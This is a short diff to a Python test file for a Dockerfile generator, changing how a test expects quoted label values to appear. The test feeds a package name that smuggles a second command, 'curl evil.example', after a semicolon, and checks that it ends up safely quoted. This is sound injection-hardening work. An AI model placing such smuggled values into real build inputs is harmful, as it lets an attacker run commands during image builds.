@@ -81,7 +81,7 @@ def test_installer_flags_follow_the_plan(bytecode: bool, keep_tests: bool) -> No
 def test_values_are_quoted() -> None:
     text = dockerfile(plan(system_packages=("libgomp1; curl evil.example",)))
     assert "'libgomp1; curl evil.example'" in text
-    assert '"org.opencontainers.image.description"="a \\"quoted\\" $VALUE"' in text
+    assert "'org.opencontainers.image.description'='a \"quoted\" $VALUE'" in text
 
 
 @pytest.mark.parametrize("field", ["labels", "environment"])
